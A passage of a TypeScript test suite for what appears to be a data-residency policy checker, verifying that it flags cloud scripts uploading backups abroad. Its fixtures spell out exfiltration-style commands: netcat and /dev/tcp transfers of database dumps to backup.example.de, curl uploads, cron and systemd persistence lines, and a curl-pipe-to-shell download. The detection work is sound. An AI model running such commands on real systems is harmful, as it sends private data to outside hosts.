      args: ["-c", "curl -T /data/db.tgz https://s3.eu-west-1.amazonaws.com/backups/db.tgz"],
    });
    expect(await named(curl(oregon), "nightly")).toEqual([
      "s3.eu-west-1.amazonaws.com in eu-west-1 (outside US, in EU)",
    ]);
  });

  // Found by the old-against-new bench: the AWS CLI's image given only the CLI's arguments
  // copied unread, its entry point (`aws`) not added.
  test("fails when the AWS CLI's image is given only its arguments, its entry point being aws", async () => {
    const sync = ["s3", "sync", "/data", "s3://backups/", "--region", "eu-west-1"];
    expect(await named(cronJob({ args: sync })(oregon), "nightly")).toEqual([
      "the S3 bucket backups in eu-west-1 (outside US, in EU)",
    ]);
    // Twin: another image's entry point is not known, and its arguments are no command.
    expect(
      await named(
        cronJob({ image: "registry.example.com/sync:1.0", args: sync })(oregon),
        "nightly",
      ),
    ).toEqual([]);
  });

  test("fails when a Pod copies to a bucket the program does not create (named-destinations)", async () => {
    const plan = add(
      "kubernetes:core/v1:Pod",
      "once",
      {
        metadata: { namespace: "records" },
        spec: pod({ command: ["aws", "s3", "sync", "/data", "s3://offsite/"] }),
      },
      { provider: "kube" },
    )(oregon);
    expect(
      findings(await pack.check(plan, oregonSettings))
        .filter(([policy, resource]) => policy === "named-destinations" && resource === "once")
        .map(([, , , path]) => path?.at(-1)),
    ).toEqual([
      "the S3 bucket offsite (a bucket this program does not create, and the command names no region or endpoint for it, so where it lies cannot be checked)",
    ]);
  });

  test("twin: downloads, probes, and uploads to a private address or a region inside pass", async () => {
    const plan = deployment({
      command: ["/bin/sh", "-ec"],
      args: [
        [
          "curl -fsSL https://get.example.com/agent.sh | sh",
          "until nc -z postgres 5432; do sleep 1; done",
          "rsync -a /data/ 10.0.4.20:/srv/data/",
          "aws s3 cp /data/db.tgz s3://backups/ --region us-west-2",
        ].join("\n"),
      ],
    })(oregon);
    expect(await named(plan, "export")).toEqual([]);
    const copy = cronJob({
      command: ["aws", "s3", "cp", "s3://backups/db.tgz", "/data/db.tgz", "--region", "eu-west-1"],
    });
    expect(await named(copy(oregon), "nightly")).toEqual([]);
  });
});

// Found by the upload review: a Command resource's scripts, which run on the machine that deploys
// (or a host it reaches over SSH) as the resource is created, updated and deleted, were not read
// once the stack had accepted the type (`allowTypes`): a backup copied abroad passed.
describe("a Command resource's scripts, once the stack accepts the type", () => {
  const accepted = {
    ...oregonSettings,
    policies: { "reviewed-resource-types": { allowTypes: ["command:local:Command"] } },
  };
  const command = (props: Record<string, unknown>) =>
    pipe(
      addProvider("command", "command", {}),
      add("command:local:Command", "export", props, { provider: "command" }),
    );

  test("fails when its create or delete script copies to a host or a region abroad", async () => {
    const plan = command({
      create:
        "pg_dump orders | gzip | ssh ops@backup.example.de 'cat > /srv/orders.gz'; scp /tmp/orders.gz ops@backup.example.de:/srv/",
      delete: "aws s3 cp /tmp/orders.gz s3://archive/ --region eu-west-1",
    })(oregon);
    expect(await named(plan, "export", accepted)).toEqual([
      "backup.example.de (a host the pack cannot place in a country)",
      // A Command resource is no cloud's: the region is placed by every cloud that has one of
      // that name.
      "eu-west-1 (outside US: Alibaba Cloud's in GB, AWS's in EU)",
    ]);
  });

  test("twin: scripts that send nothing out, or only inside, pass; and another type's create is no script", async () => {
    const plan = command({
      create: "./export.sh && scp /tmp/orders.gz ops@10.0.3.7:/srv/",
      update: "aws s3 cp /tmp/orders.gz s3://archive/ --region us-east-1",
    })(oregon);
    expect(await named(plan, "export", accepted)).toEqual([]);
    const timeouts = add("aws:s3/bucketV2:BucketV2", "timed", {
      bucket: "timed",
      timeouts: { create: "scp /tmp/x ops@backup.example.de:/srv/" },
    })(oregon);
    expect(await named(timeouts, "timed", accepted)).toEqual([]);
  });
});

// Found by the scripts bench: uploads a script has run later, or makes by means the reading did
// not know, passed as sealed. Each is now read as the script's own commands are.
describe("a script's uploads that run later or by other means", () => {
  const offsite = "backup.example.de (a host the pack cannot place in a country)";

  /** arn-locality's messages on `name`. */
  async function messages(plan: Plan, name: string): Promise<string[]> {
    return (await pack.check(plan, oregonSettings))
      .filter((v) => v.policy === "arn-locality" && v.resourceName === name)
      .map((v) => `${v.level} ${v.message}`);
  }

  test("fails when user data installs a cron line that copies to a host the pack cannot place, naming the cron line's command", async () => {
    const script = `#!/bin/bash\n(crontab -l 2>/dev/null; echo "0 2 * * * scp /var/backups/db.tgz ops@backup.example.de:/srv/") | crontab -\n`;
    expect(await named(instance(script)(oregon), "vm")).toEqual([offsite]);
    const [message] = await messages(instance(script)(oregon), "vm");
    expect(message).toContain(
      'userData runs "scp /var/backups/db.tgz ops@backup.example.de:/srv/", which copies files to backup.example.de',
    );
    expect(message).toMatch(/^mandatory /);
  });

  test("fails the same for a line written into /etc/cron.d, by a heredoc or a cloud-config's write_files", async () => {
    const heredoc =
      "#!/bin/bash\ncat <<'EOF' > /etc/cron.d/ship\n*/5 * * * * root rsync -a /var/lib/app/ backup.example.de:/srv/app/\nEOF\n";
    expect(await named(instance(heredoc)(oregon), "vm")).toEqual([offsite]);
    const cloudConfig = [
      "#cloud-config",
      "write_files:",
      "  - path: /etc/cron.d/ship",
      "    content: |",
      "      */5 * * * * root rsync -a /var/lib/app/ backup.example.de:/srv/app/",
      "",
    ].join("\n");
    expect(await named(instance(cloudConfig)(oregon), "vm")).toEqual([offsite]);
  });

  test("twin: a cron line that only downloads, or copies to a private host, and a listing pass", async () => {
    const script = [
      "#!/bin/bash",
      'echo "0 * * * * curl -fsSL https://backup.example.de/config -o /etc/app.conf" | crontab -',
      "crontab -l",
      "echo '0 2 * * * root scp /var/backups/db.tgz ops@10.0.4.20:/srv/' > /etc/cron.d/ship",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });

  // Found by bench regress84: a cron line's command run through flock or runuser passed.
  test("fails when a cron line runs its copy through flock, chronic or runuser; twin: the same download passes", async () => {
    const cron = (command: string) =>
      instance(`#!/bin/bash\necho "*/5 * * * * root ${command}" > /etc/cron.d/ship\n`);
    for (const wrapper of ["flock -n /run/ship.lock", "chronic", "runuser -u app --"]) {
      const upload = `${wrapper} rsync -a /var/lib/app/ backup.example.de:/srv/app/`;
      expect(await named(cron(upload)(oregon), "vm")).toEqual([offsite]);
      const download = `${wrapper} rsync -a backup.example.de:/srv/app/ /var/lib/app/`;
      expect(await named(cron(download)(oregon), "vm")).toEqual([]);
    }
  });

  // Found by bench regress84: a cron file staged in /tmp, then copied into place, passed.
  test("fails when a cron file staged in /tmp is copied into /etc/cron.d; twin: one that downloads passes", async () => {
    const staged = (line: string) =>
      instance(
        `#!/bin/bash\ncat > /tmp/ship.cron <<'EOF'\n0 * * * * root ${line}\nEOF\ncp /tmp/ship.cron /etc/cron.d/ship\n`,
      );
    const upload = "rsync -a /var/lib/app/ backup.example.de:/srv/app/";
    expect(await named(staged(upload)(oregon), "vm")).toEqual([offsite]);
    const download = "rsync -a backup.example.de:/srv/app/ /var/lib/app/";
    expect(await named(staged(download)(oregon), "vm")).toEqual([]);
  });

  test("fails when a trap's command sends to a host the pack cannot place; twin: one that cleans up passes", async () => {
    const trap = (command: string) => instance(`#!/bin/bash\ntrap '${command}' EXIT\n./run.sh\n`);
    expect(await named(trap("tar cz /var/log | nc backup.example.de 9000")(oregon), "vm")).toEqual([
      offsite,
    ]);
    expect(await named(trap("rm -f /tmp/lock")(oregon), "vm")).toEqual([]);
  });

  test("fails when user data writes a systemd unit whose ExecStart copies to a host the pack cannot place", async () => {
    const unit = (host: string) =>
      `#!/bin/bash\ncat <<EOF > /etc/systemd/system/ship.service\n[Unit]\nDescription=Ship\n[Service]\nExecStart=/usr/bin/rsync -a /var/lib/app/ ${host}:/srv/app/\nEOF\nsystemctl enable --now ship\n`;
    expect(await named(instance(unit("backup.example.de"))(oregon), "vm")).toEqual([offsite]);
    // Twin: the same to a private address.
    expect(await named(instance(unit("10.0.4.20"))(oregon), "vm")).toEqual([]);
  });

  test("fails the same for a unit a cloud-config's write_files writes", async () => {
    const cloudConfig = (host: string) =>
      [
        "#cloud-config",
        "write_files:",
        "  - path: /etc/systemd/system/ship.service",
        "    content: |",
        "      [Service]",
        `      ExecStartPost=/bin/sh -c 'tar cz /var/lib/app | nc ${host} 9000'`,
        "runcmd:",
        "  - systemctl enable --now ship",
        "",
      ].join("\n");
    expect(await named(instance(cloudConfig("backup.example.de"))(oregon), "vm")).toEqual([
      offsite,
    ]);
    expect(await named(instance(cloudConfig("10.0.4.20"))(oregon), "vm")).toEqual([]);
  });

  test("fails when a script writes to bash's /dev/tcp of a host the pack cannot place; twin: reading from it, or a private host, passes", async () => {
    const script = "#!/bin/bash\ncat /var/backups/db.tgz > /dev/tcp/backup.example.de/9000\n";
    expect(await messages(instance(script)(oregon), "vm")).toEqual([
      `mandatory ec2 instance "vm" must send data only to places inside US, but userData runs "cat /var/backups/db.tgz > /dev/tcp/backup.example.de/9000", which writes to a connection to ${offsite}: the compute sends what the command reads there each time it runs, and no resource of the stack holds it. Upload only to a service inside US by its regional endpoint, or to a private address; once you have confirmed that a host keeps the data inside US, name it in the stack's egressHosts with your reason.`,
    ]);
    const twin = [
      "#!/bin/bash",
      "exec 3</dev/tcp/backup.example.de/80",
      "cat /var/backups/db.tgz > /dev/tcp/10.0.4.20/9000",
      "",
    ].join("\n");
    expect(await named(instance(twin)(oregon), "vm")).toEqual([]);
  });

  // Found by bench regress84: the port-check idiom failed as an upload.
  test("twin: a port check through /dev/tcp passes, where a copy into it fails", async () => {
    const check = (command: string) =>
      instance(
        `#!/bin/bash\n(${command} > /dev/tcp/backup.example.de/443) >/dev/null 2>&1 && echo open\n`,
      );
    expect(await named(check("echo")(oregon), "vm")).toEqual([]);
    expect(await named(check(":")(oregon), "vm")).toEqual([]);
    expect(await named(check("cat /var/backups/db.tgz")(oregon), "vm")).toEqual([offsite]);
  });

  test("fails when rclone, mc or gsutil copies to a remote, alias or bucket the line does not place", async () => {
    const script = [
      "#!/bin/bash",
      "rclone sync /var/lib/app offsite:app",
      "mc mirror /var/log minio/logs",
      "gsutil -m cp -r /var/backups gs://archive/",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      "the Cloud Storage bucket archive (the command does not say where it lies, so it cannot be placed)",
      "the mc alias minio (configured outside the command, which does not say where it sends, so it cannot be placed)",
      "the rclone remote offsite (configured outside the command, which does not say where it sends, so it cannot be placed)",
    ]);
  });

  test("fails when an mc alias or rclone remote the script defines sends abroad, naming the place", async () => {
    const script = [
      "#!/bin/bash",
      'mc alias set backup https://s3.eu-central-1.amazonaws.com "$KEY" "$SECRET"',
      "mc mirror /var/backups backup/archive/",
      "mc config host add old https://s3.eu-west-1.amazonaws.com KEY SECRET",
      "mc cp /var/backups/db.tgz old/archive/",
      "export MC_HOST_nas=https://KEY:SECRET@minio.example.de:9000",
      "mc cp /var/backups/db.tgz nas/archive/",
      "rclone config create offsite s3 provider=AWS region=eu-west-1 --non-interactive",
      "rclone copy /var/backups offsite:app-backups/db",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      "minio.example.de (a host the pack cannot place in a country)",
      "s3.eu-central-1.amazonaws.com in eu-central-1 (outside US, in EU)",
      ireland,
      "the S3 bucket app-backups in eu-west-1 (outside US, in EU)",
    ]);
  });

  test("twin: an mc alias or rclone remote the script defines inside the jurisdiction or at a private address passes", async () => {
    const script = [
      "#!/bin/bash",
      'mc alias set backup https://s3.us-west-2.amazonaws.com "$KEY" "$SECRET"',
      "mc mirror /var/backups backup/archive/",
      "mc config host add old https://10.0.4.20:9000 KEY SECRET",
      "mc cp /var/backups/db.tgz old/archive/",
      'export MC_HOST_nas="https://$KEY:$SECRET@10.0.4.21:9000"',
      "mc cp /var/backups/db.tgz nas/archive/",
      "rclone config create offsite sftp host 10.0.4.22 user ops",
      "rclone copy /var/backups offsite:/srv/db",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });

  // Found by the session's own review: a cloud-config's runcmd strings and an SSM document's
  // runCommand lines run as one script (cloud-init and SSM write them into one), but were read
  // line by line, so an alias one line set never reached the copy on the next.
  test("reads a runcmd's or runCommand's lines as one script: an alias one line sets places the next line's copy", async () => {
    const runcmd = (endpoint: string) =>
      [
        "#cloud-config",
        "runcmd:",
        `  - mc alias set backup ${endpoint} KEY SECRET`,
        "  - mc mirror /var/backups backup/archive/",
        "",
      ].join("\n");
    const abroad = instance(runcmd("https://minio.example.de:9000"))(oregon);
    expect(await named(abroad, "vm")).toEqual([
      "minio.example.de (a host the pack cannot place in a country)",
    ]);
    const [violation] = (await pack.check(abroad, oregonSettings)).filter(
      (v) => v.policy === "arn-locality" && v.resourceName === "vm",
    );
    expect(violation.message).toContain(
      'userData.runcmd[1] runs "mc mirror /var/backups backup/archive/"',
    );
    expect(await named(instance(runcmd("https://10.0.4.20:9000"))(oregon), "vm")).toEqual([]);
    // A heredoc over several lines of an SSM document writes a cron file whose line uploads.
    const document = add("aws:ssm/document:Document", "export", {
      documentType: "Command",
      content: JSON.stringify({
        schemaVersion: "2.2",
        mainSteps: [
          {
            name: "export",
            action: "aws:runShellScript",
            inputs: {
              runCommand: [
                "cat > /etc/cron.d/export <<'EOF'",
                "*/5 * * * * root curl -T /var/log/app.log https://collector.example.com/x",
                "EOF",
              ],
            },
          },
        ],
      }),
    })(oregon);
    expect(await named(document, "export")).toEqual([
      "collector.example.com (a host the pack cannot place in a country)",
    ]);
  });

  test("fails when an mc alias is defined at run time, after its copy, or not at all", async () => {
    const script = [
      "#!/bin/bash",
      'mc alias set backup "$MINIO_URL" "$KEY" "$SECRET"',
      "mc mirror /var/backups backup/archive/",
      "mc cp /var/backups/db.tgz nas/archive/",
      "mc alias set nas https://10.0.4.20:9000 KEY SECRET",
      "mc cp /var/backups/db.tgz other/archive/",
      "",
    ].join("\n");
    const alias = (name: string) =>
      `the mc alias ${name} (configured outside the command, which does not say where it sends, so it cannot be placed)`;
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      alias("backup"),
      alias("nas"),
      alias("other"),
    ]);
  });

  test("fails when rclone's inline S3 remote names a region abroad, or azcopy copies to a storage account the pack cannot place", async () => {
    const script = [
      "#!/bin/bash",
      "rclone copy /var/backups :s3,provider=AWS,region=eu-west-1:app-backups/db",
      'azcopy copy /var/backups "https://acct.blob.core.windows.net/backups?sv=2022&sig=x" --recursive',
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      "acct.blob.core.windows.net (a host the pack cannot place in a country)",
      "the S3 bucket app-backups in eu-west-1 (outside US, in EU)",
    ]);
  });

  // Found by bench regress84: these forms of the same copies passed.
  test("fails when gcloud's track or global flags stand before storage, on mc pipe and put, and on a function a trap runs", async () => {
    const script = [
      "#!/bin/bash",
      "gcloud alpha storage cp /var/backups/db.tgz gs://archive/",
      "gcloud --quiet storage cp /var/backups/db.tgz gs://archive/",
      "tar cz /var/lib/app | mc pipe minio/backups/app.tgz",
      "mc put /var/backups/db.tgz minio/backups/",
      "push() { rsync -a /var/lib/app/ backup.example.de:/srv/app/; }",
      "trap push EXIT",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      offsite,
      "the Cloud Storage bucket archive (the command does not say where it lies, so it cannot be placed)",
      "the mc alias minio (configured outside the command, which does not say where it sends, so it cannot be placed)",
    ]);
    const twin = [
      "#!/bin/bash",
      "gcloud alpha storage cp gs://archive/db.tgz /tmp/",
      "mc cat minio/backups/app.tgz > /tmp/app.tgz",
      "cleanup() { rm -rf /tmp/work; }",
      "trap cleanup EXIT",
      "",
    ].join("\n");
    expect(await named(instance(twin)(oregon), "vm")).toEqual([]);
  });

  // Found by bench regress84: these tools' copies passed unread.
  test("fails when s3cmd, s5cmd, az storage blob or socat copies to a place abroad or one the pack cannot place", async () => {
    const script = [
      "#!/bin/bash",
      "s3cmd put --region eu-west-1 /var/backups/db.tgz s3://app-backups/",
      "s5cmd --endpoint-url https://s3.eu-west-1.amazonaws.com cp /var/backups/db.tgz s3://app-backups/",
      "az storage blob upload --account-name partnereu -c drop -f /var/backups/db.tgz -n db.tgz",
      "az storage blob upload -c drop -f /var/backups/db.tgz -n db.tgz",
      "socat -u FILE:/var/backups/db.tgz TCP:backup.example.de:9000",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      offsite,
      "eu-west-1 (outside US, in EU)",
      "partnereu.blob.core.windows.net (a host the pack cannot place in a country)",
      ireland,
      "the Azure storage account the environment or az's configuration names (the command does not name it, so it cannot be placed)",
    ]);
    const twin = [
      "#!/bin/bash",
      "s3cmd get s3://app-backups/db.tgz /tmp/",
      "s5cmd --dry-run cp /var/backups/db.tgz s3://app-backups/",
      "az storage blob download --account-name partnereu -c drop -n db.tgz -f /tmp/db.tgz",
      "socat -u FILE:/var/backups/db.tgz TCP:10.0.4.20:9000",
      "",
    ].join("\n");
    expect(await named(instance(twin)(oregon), "vm")).toEqual([]);
  });

  // Found by bench regress84: rclone's backend flags hid the copy, and an endpoint the script
  // exports for rclone sent a copy to the program's own bucket name elsewhere.
  test("fails when rclone's backend flags or exported endpoint place its copy abroad or where the pack cannot place it; twin: the program's bucket alone passes", async () => {
    const flags = [
      "#!/bin/bash",
      "rclone copy --s3-region eu-west-1 /var/backups :s3:landing/db/",
      "rclone copy --sftp-host backup.example.de --sftp-user ops /var/backups :sftp:/srv/in/",
      "",
    ].join("\n");
    expect(await named(instance(flags)(oregon), "vm")).toEqual([
      offsite,
      "the S3 bucket landing in eu-west-1 (outside US, in EU)",
    ]);
    const own = add("aws:s3/bucket:Bucket", "logs", { bucket: "app-logs" });
    const copy = "rclone copy /var/log/app :s3:app-logs/app/\n";
    const exported = `#!/bin/bash\nexport RCLONE_S3_PROVIDER=Minio RCLONE_S3_ENDPOINT=https://minio.example.de\n${copy}`;
    expect(await named(own(instance(exported)(oregon)), "vm")).toEqual([
      "the S3 bucket app-logs at minio.example.de (a host the pack cannot place in a country)",
    ]);
    expect(await named(own(instance(`#!/bin/bash\n${copy}`)(oregon)), "vm")).toEqual([]);
  });

  test("twin: their downloads and dry runs pass", async () => {
    const script = [
      "#!/bin/bash",
      "rclone copy offsite:app /var/lib/app",
      "rclone sync /var/lib/app offsite:app --dry-run",
      "mc cp minio/logs/app.log /tmp/",
      "gsutil cp gs://archive/db.tgz /tmp/",
      'azcopy copy "https://acct.blob.core.windows.net/backups/db.tgz" /tmp/db.tgz',
      "aws s3api get-object --bucket app-backups --key db.tgz /tmp/db.tgz",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });

  test("an aws s3api put-object is judged as aws s3 cp to the bucket: by the program's bucket of that name", async () => {
    const put =
      "#!/bin/bash\naws s3api put-object --bucket app-backups --key db.tgz --body /tmp/db.tgz\n";
    const resolved = async (plan: Plan) =>
      findings(await pack.check(plan, oregonSettings))
        .filter(([policy, resource]) => policy === "named-destinations" && resource === "vm")
        .map(([, , , path]) => path?.at(-1));
    expect(await resolved(instance(put)(oregon))).toEqual([
      "the S3 bucket app-backups (a bucket this program does not create, and the command names no region or endpoint for it, so where it lies cannot be checked)",
    ]);
    const bucket = add("aws:s3/bucket:Bucket", "backups", { bucket: "app-backups" });
    expect(await resolved(bucket(instance(put)(oregon)))).toEqual([]);
  });
});
